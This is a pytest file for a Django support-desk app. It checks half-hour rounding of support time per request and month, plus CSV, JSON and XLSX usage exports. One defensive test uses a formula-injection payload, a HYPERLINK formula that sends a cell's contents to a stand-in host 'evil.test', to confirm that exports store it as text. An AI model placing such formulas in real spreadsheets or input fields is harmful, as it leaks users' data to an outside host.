"""A Krizhik «Надежный» month, counted exactly as the tariff says (R4.5), by hand.

Seed R4.5 «Учет использования службы поддержки: … Час», «Кратность … 0,5»: hours,
rounded up to half-hours. The rule (docs/usage.md): per request, per calendar month
in Moscow time, sum the billable, not voided minutes, then round up to 0.5 h.

October 2026, hand-computed:

    request  billable entries          sum     rounded   notes
    1        20                        20 min  0.5 h     the issue's 20 min → 0.5 h
    2        31  (+60 voided)          31 min  1.0 h     the issue's 31 min → 1 h
    3        30 + 30  (+15 not bill.)  60 min  1.0 h     exactly on an increment
    4        45 + 20                   65 min  1.5 h     summed, then rounded once
    5        10 at 31 Oct 23:59 MSK    10 min  0.5 h     its 25 min at 1 Nov 00:00 MSK
                                                         count in November
    total                              186 min 4.5 h
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from reglament.cli import main
from reglament.tickets.models import Ticket
from reglament.tickets.tests.factories import Desk
from reglament.usage.tests.factories import Api, krizhik_desk, request

pytestmark = pytest.mark.django_db


def october(d: Desk) -> list[Ticket]:
    """Five Reliable requests of October 2026 with the time of the table above."""
    tickets = [
        request(d, f"Вопрос {n}", f"2026-10-{n + 4:02d}T10:00:00+03:00") for n in range(1, 6)
    ]
    api = Api(d.agent1)
    t1, t2, t3, t4, t5 = (t.number for t in tickets)
    entries: list[tuple[str, int, str, dict[str, Any]]] = [
        (t1, 20, "2026-10-05T11:00:00+03:00", {}),
        (t2, 60, "2026-10-06T11:00:00+03:00", {"note": "не та заявка"}),  # voided below
        (t2, 31, "2026-10-06T12:00:00+03:00", {}),
        (t3, 30, "2026-10-07T11:00:00+03:00", {}),
        (t3, 30, "2026-10-07T15:00:00+03:00", {"activity": "diagnosis"}),
        (t3, 15, "2026-10-07T16:00:00+03:00", {"billable": False}),
        (t4, 45, "2026-10-08T11:00:00+03:00", {"activity": "remote-work"}),
        (t4, 20, "2026-10-20T11:00:00+03:00", {}),
        (t5, 10, "2026-10-31T23:59:00+03:00", {}),
        (t5, 25, "2026-11-01T00:00:00+03:00", {}),  # = 2026-10-31T21:00Z: November
    ]
    ids = []
    for number, minutes, when, extra in entries:
        response = api.log(number, minutes, when, **extra)
        assert response.status_code == 201, response.json()
        ids.append(response.json()["id"])
    voided = api.post(f"/tickets/{t2}/time/{ids[1]}/void", {"reason": "logged on t2 by mistake"})
    assert voided.status_code == 200, voided.json()
    return tickets


def test_a_reliable_month_through_the_api_is_rounded_per_request_to_half_hours() -> None:
    # given a Reliable contract with the October time of the module's table
    d = krizhik_desk("reliable")
    tickets = october(d)
    # when the service manager asks for the October usage
    response = Api(d.manager).get(f"/contracts/{d.contract.pk}/usage", period="2026-10")
    # then each request counts its own rounded half-hours
    assert response.status_code == 200, response.json()
    body = response.json()
    assert (body["unit"], body["increment"], body["period"], body["timezone"]) == (
        "hour",
        "0.5",
        "2026-10",
        "Europe/Moscow",
    )
    rows = {
        r["number"]: (r["raw_minutes"], r["billable_minutes"], r["units"]) for r in body["requests"]
    }
    assert rows == {
        tickets[0].number: (20, 20, "0.5"),
        tickets[1].number: (31, 31, "1"),  # the voided 60 min count nowhere
        tickets[2].number: (75, 60, "1"),  # 15 min not billable: shown, not counted
        tickets[3].number: (65, 65, "1.5"),
        tickets[4].number: (10, 10, "0.5"),
    }
    assert body["totals"] == {
        "requests": 5,
        "billable_minutes": 186,
        "non_billable_minutes": 15,
        "units": "4.5",
    }
    # and the entries behind request 3 are listed, with the staff's notes and authors
    third = next(r for r in body["requests"] if r["number"] == tickets[2].number)
    assert [(e["minutes"], e["billable"], e["author"]) for e in third["entries"]] == [
        (30, True, "agent1"),
        (30, True, "agent1"),
        (15, False, "agent1"),
    ]
    # and November has request 5's 25 minutes after Moscow midnight: 0.5 h
    november = Api(d.manager).get(f"/contracts/{d.contract.pk}/usage", period="2026-11").json()
    assert [(r["number"], r["billable_minutes"], r["units"]) for r in november["requests"]] == [
        (tickets[4].number, 25, "0.5")
    ]


def test_the_reliable_month_as_csv_json_and_xlsx_from_the_cli(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # given the same October
    d = krizhik_desk("reliable")
    tickets = october(d)
    contract = str(d.contract.pk)
    base = ["usage", "report", "--contract", contract, "--period", "2026-10"]

    # when the report is written as CSV
    assert main([*base, "--format", "csv", "--output", str(tmp_path / "oct.csv")]) == 0
    # then one row per request, the raw time beside the counted units, and a total
    text = (tmp_path / "oct.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [
        (r["number"], r["billable_minutes"], r["billable_hours_raw"], r["units"]) for r in rows
    ] == [
        (tickets[0].number, "20", "0.33", "0.5"),
        (tickets[1].number, "31", "0.52", "1"),
        (tickets[2].number, "60", "1", "1"),
        (tickets[3].number, "65", "1.08", "1.5"),
        (tickets[4].number, "10", "0.17", "0.5"),
        ("Total", "186", "3.1", "4.5"),
    ]

    # when as JSON on stdout
    capsys.readouterr()
    assert main([*base, "--format", "json"]) == 0
    data = json.loads(capsys.readouterr().out)
    # then the API's shape and figures
    assert data["totals"]["units"] == "4.5"
    assert [r["units"] for r in data["requests"]] == ["0.5", "1", "1", "1.5", "0.5"]

    # when as XLSX
    path = tmp_path / "oct.xlsx"
    assert main([*base, "--format", "xlsx", "--output", str(path)]) == 0
    # then read back with openpyxl: the same rows, numbers as numbers
    sheet = load_workbook(path)["usage 2026-10"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:7] == [
        "number",
        "subject",
        "status",
        "billable_minutes",
        "non_billable_minutes",
        "billable_hours_raw",
        "units",
    ]
    assert [(row[0], row[3], Decimal(str(row[6]))) for row in values[1:]] == [
        (tickets[0].number, 20, Decimal("0.5")),
        (tickets[1].number, 31, Decimal("1")),
        (tickets[2].number, 60, Decimal("1")),
        (tickets[3].number, 65, Decimal("1.5")),
        (tickets[4].number, 10, Decimal("0.5")),
        ("Total", 186, Decimal("4.5")),
    ]
    entries = load_workbook(path)["entries"]
    assert entries.max_row == 1 + 8  # eight October entries (not the voided one)


def test_the_api_gives_the_csv_as_a_download() -> None:
    d = krizhik_desk("reliable")
    october(d)
    api = Api(d.manager)
    for response in (
        api.get(f"/contracts/{d.contract.pk}/usage.csv", period="2026-10"),
        api.get(f"/contracts/{d.contract.pk}/usage", period="2026-10", format="csv"),
    ):
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == (
            f'attachment; filename="usage-{d.contract.pk}-2026-10.csv"'
        )
        last = response.content.decode("utf-8-sig").strip().splitlines()[-1]
        assert last == "Total,,,186,15,3.1,4.5,hour,8,"
    xlsx = api.get(f"/contracts/{d.contract.pk}/usage", period="2026-10", format="xlsx")
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content))
    assert book["usage 2026-10"].max_row == 7  # header, five requests, total


def test_exports_never_turn_a_customers_text_into_a_spreadsheet_formula() -> None:
    """A subject or note starting with = + - @ stays text in the CSV and the XLSX."""
    # given a request whose subject is a formula, with a note that is one too
    d = krizhik_desk("reliable")
    hostile = '=HYPERLINK("http://evil.test/?"&A2,"Открыть")'
    ticket = request(d, hostile, "2026-10-05T10:00:00+03:00")
    api = Api(d.manager)
    logged = api.log(ticket.number, 20, "2026-10-05T11:00:00+03:00", note="+1+1")
    assert logged.status_code == 201, logged.json()
    # when the manager downloads the month
    csv_text = api.get(f"/contracts/{d.contract.pk}/usage.csv", period="2026-10").content
    xlsx = api.get(f"/contracts/{d.contract.pk}/usage", period="2026-10", format="xlsx")
    # then the CSV quotes it as text, and the workbook stores text, not formulas
    rows = list(csv.reader(io.StringIO(csv_text.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + hostile
    book = load_workbook(io.BytesIO(xlsx.content))
    subject = book["usage 2026-10"]["B2"]
    note = book["entries"]["H2"]
    assert (subject.data_type, subject.value) == ("s", hostile)
    assert (note.data_type, note.value) == ("s", "+1+1")
